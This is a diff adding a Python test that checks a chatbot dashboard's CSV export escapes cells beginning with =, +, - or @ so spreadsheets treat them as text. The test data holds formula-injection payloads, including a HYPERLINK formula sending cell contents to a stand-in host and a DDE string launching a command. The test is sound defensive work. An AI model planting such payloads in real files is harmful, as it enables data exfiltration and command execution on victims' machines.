@@ -184,3 +184,16 @@ def test_retention_and_erasure_on_postgresql(postgres_url):
             assert count("SELECT count(*) FROM emotion_records WHERE session_id = 's-keep'") == 1
     finally:
         engine.dispose()
+
+
+def test_csv_export_cells_are_not_formulas() -> None:
+    """A message starting with =, +, -, @ is exported as text, not run by a spreadsheet."""
+    from emotion.dashboard.privacy import export_csv
+
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx"]
+    turns = [{"turn_index": i, "speaker_id": "u", "sent_at": None, "received_at": None, "status": "analysed",
+              "error_code": None, "text": t, "emotion": None} for i, t in enumerate(attacks + ["a normal message"])]
+    rows = list(csv.DictReader(io.StringIO(export_csv(
+        {"sessions": [{"session_id": "=s", "bot": "support", "user_id": "u", "turns": turns}]}))))
+    assert [r["text"] for r in rows] == ["'" + t for t in attacks] + ["a normal message"]
+    assert {r["session_id"] for r in rows} == {"'=s"}
